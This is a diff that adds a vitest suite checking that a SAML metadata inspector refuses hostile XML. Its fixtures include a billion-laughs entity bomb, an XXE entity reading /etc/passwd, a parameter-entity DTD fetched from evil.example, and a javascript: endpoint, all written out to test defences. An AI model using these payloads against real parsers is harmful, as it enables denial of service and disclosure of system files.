@@ -1,0 +1,121 @@
+import { describe, expect, it } from 'vitest';
+import { inspectMetadata } from '../../../../main/saml/idp/metadata-inspector.js';
+import { codes, idpXml, inspect } from './fixtures.js';
+
+const laughs = `<?xml version="1.0"?>
+<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
+<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">]>
+<md:EntityDescriptor xmlns:md="urn:oasis:names:tc:SAML:2.0:metadata" entityID="&lol3;"/>`;
+
+describe('hostile input', () => {
+  it('refuses billion laughs before any entity is expanded', () => {
+    const report = inspect(laughs);
+    expect(report.findings).toEqual([expect.objectContaining({ code: 'XML_DTD_FORBIDDEN', severity: 'error', line: 2 })]);
+    expect(JSON.stringify(report)).not.toContain('lollol');
+  });
+
+  it('refuses an external entity (XXE) and never reads the file', () => {
+    const xxe = `<?xml version="1.0"?><!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><x>&xxe;</x>`;
+    const report = inspect(xxe);
+    expect(codes(report)).toEqual(['XML_DTD_FORBIDDEN']);
+    expect(JSON.stringify(report)).not.toContain('root:');
+  });
+
+  it('refuses a parameter entity DTD', () => {
+    const pe = `<!DOCTYPE x [<!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p;]><x/>`;
+    expect(codes(inspect(pe))).toEqual(['XML_DTD_FORBIDDEN']);
+  });
+
+  it('reports an undefined entity reference (no DTD defines it)', () => {
+    const report = inspect(idpXml({ entityId: 'https://idp.example.org/&foo;' }));
+    expect(report.findings[0]).toMatchObject({ code: 'XML_NOT_WELL_FORMED', params: { reason: 'UNDEFINED_ENTITY' } });
+  });
+
+  it('refuses a file over the cap without reading it (configurable cap)', async () => {
+    const report = await inspectMetadata(new Uint8Array(2048), { maxBytes: 1024 });
+    expect(report.findings).toEqual([expect.objectContaining({ code: 'FILE_TOO_LARGE', params: { size: 2048, maxBytes: 1024 } })]);
+  });
+
+  it('refuses a 300 MB buffer with the default 256 MB cap, at once', async () => {
+    const big = new Uint8Array(300 * 1024 * 1024);
+    const started = performance.now();
+    const report = await inspectMetadata(big);
+    expect(performance.now() - started).toBeLessThan(50);
+    expect(codes(report)).toEqual(['FILE_TOO_LARGE']);
+  });
+
+  it('reports binary data, an empty file and a PEM certificate as not XML', () => {
+    expect(inspect(new Uint8Array([0x89, 0x50, 0x4e, 0x47, 0, 0, 1, 2])).findings[0]?.params).toEqual({ reason: 'BINARY' });
+    expect(inspect('').findings[0]).toMatchObject({ code: 'NOT_XML', params: { reason: 'EMPTY' } });
+    expect(inspect('   \n ').findings[0]).toMatchObject({ code: 'NOT_XML', params: { reason: 'EMPTY' } });
+    expect(inspect('-----BEGIN CERTIFICATE-----\nMIIB\n').findings[0]?.params).toEqual({ reason: 'PEM_CERTIFICATE' });
+    expect(inspect('%PDF-1.7 binary').findings[0]?.params).toEqual({ reason: 'NO_MARKUP' });
+  });
+
+  it('decodes UTF-16 with a BOM (LE and BE) and says so', () => {
+    const xml = idpXml();
+    const le = new Uint8Array(Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(xml, 'utf16le')]));
+    const report = inspect(le);
+    expect(report.idp?.entityId).toBe('https://idp.example.org/saml');
+    expect(codes(report)).toContain('ENCODING_TRANSCODED');
+    const beBody = Buffer.from(xml, 'utf16le').swap16();
+    const be = new Uint8Array(Buffer.concat([Buffer.from([0xfe, 0xff]), beBody]));
+    expect(inspect(be).idp?.entityId).toBe('https://idp.example.org/saml');
+    expect(codes(inspect(new Uint8Array([0xff, 0xfe, 0x3c, 0x00, 0x00, 0xd8])))).toEqual(['XML_ENCODING_UNSUPPORTED']);
+  });
+
+  it('accepts UTF-8 with and without BOM, and refuses an unsupported declared encoding', () => {
+    const xml = `<?xml version="1.0" encoding="UTF-8"?>\n${idpXml()}`;
+    expect(inspect(xml).ok).toBe(true);
+    expect(inspect(`\uFEFF${xml}`).ok).toBe(true);
+    const ebcdic = `<?xml version="1.0" encoding="EBCDIC-CP-US"?>\n${idpXml()}`;
+    expect(codes(inspect(ebcdic))).toEqual(['XML_ENCODING_UNSUPPORTED']);
+  });
+
+  it('survives deeply nested elements without recursion', () => {
+    const depth = 200_000;
+    const deep = idpXml({ extra: `<md:Extensions>${'<x>'.repeat(depth)}${'</x>'.repeat(depth)}</md:Extensions>` });
+    expect(inspect(deep).ok).toBe(true);
+    const unclosed = `<a>${'<x>'.repeat(depth)}`;
+    expect(inspect(unclosed).findings[0]).toMatchObject({ code: 'XML_NOT_WELL_FORMED', params: { reason: 'UNCLOSED_ELEMENT' } });
+  });
+
+  it('handles 100k attributes, and finds a duplicate among them', () => {
+    const attrs = Array.from({ length: 100_000 }, (_, k) => ` a${k}="v"`).join('');
+    expect(inspect(`<x${attrs}/>`).findings[0]?.code).toBe('NOT_SAML_METADATA');
+    const dup = inspect(`<x${attrs} a99999="w"/>`);
+    expect(dup.findings[0]).toMatchObject({ code: 'XML_NOT_WELL_FORMED', params: { reason: 'DUPLICATE_ATTRIBUTE' } });
+  });
+
+  it('resolves namespaces for real: other prefixes and default namespaces work, wrong URIs do not', () => {
+    expect(inspect(idpXml({ prefix: 'saml2md' })).ok).toBe(true);
+    const defaultNs = idpXml().replace(/md:/g, '').replace('xmlns:md=', 'xmlns=');
+    expect(inspect(defaultNs).ok).toBe(true);
+    const wrong = idpXml().replace('urn:oasis:names:tc:SAML:2.0:metadata', 'urn:example:not-saml');
+    expect(inspect(wrong).findings[0]).toMatchObject({ code: 'NOT_SAML_METADATA', params: { namespace: 'urn:example:not-saml' } });
+    const unbound = idpXml().replace(' xmlns:md="urn:oasis:names:tc:SAML:2.0:metadata"', '');
+    expect(codes(inspect(unbound))).toEqual(['NOT_SAML_METADATA']);
+  });
+
+  it('flags javascript: and data: endpoints as errors and http as a warning', () => {
+    const js = inspect(idpXml({ sso: 'javascript:alert(1)' }));
+    expect(js.findings.find((f) => f.code === 'INSECURE_ENDPOINT_URL')).toMatchObject({ severity: 'error' });
+    expect(codes(inspect(idpXml({ sso: 'data:text/html,x' })))).toContain('INSECURE_ENDPOINT_URL');
+    const http = inspect(idpXml({ sso: 'http://idp.example.org/sso' }));
+    expect(http.findings.find((f) => f.code === 'INSECURE_ENDPOINT_URL')).toMatchObject({ severity: 'warning' });
+  });
+
+  it('reports a missing or unreadable certificate', () => {
+    const none = inspect(idpXml().replace(/<md:KeyDescriptor[\s\S]*?<\/md:KeyDescriptor>/, ''));
+    expect(codes(none)).toContain('CERT_MISSING');
+    const garbage = inspect(idpXml({ cert: 'bm90IGEgY2VydGlmaWNhdGU=' }));
+    expect(codes(garbage)).toEqual(expect.arrayContaining(['CERT_UNREADABLE', 'CERT_MISSING']));
+  });
+
+  it('requires a Redirect or POST SSO endpoint and SAML 2.0 support', () => {
+    const soap = idpXml().replace('HTTP-Redirect', 'SOAP');
+    expect(codes(inspect(soap))).toContain('NO_SSO_ENDPOINT');
+    const saml1 = idpXml().replace('urn:oasis:names:tc:SAML:2.0:protocol', 'urn:oasis:names:tc:SAML:1.1:protocol');
+    expect(codes(inspect(saml1))).toContain('IDP_NO_SAML2_SUPPORT');
+  });
+});
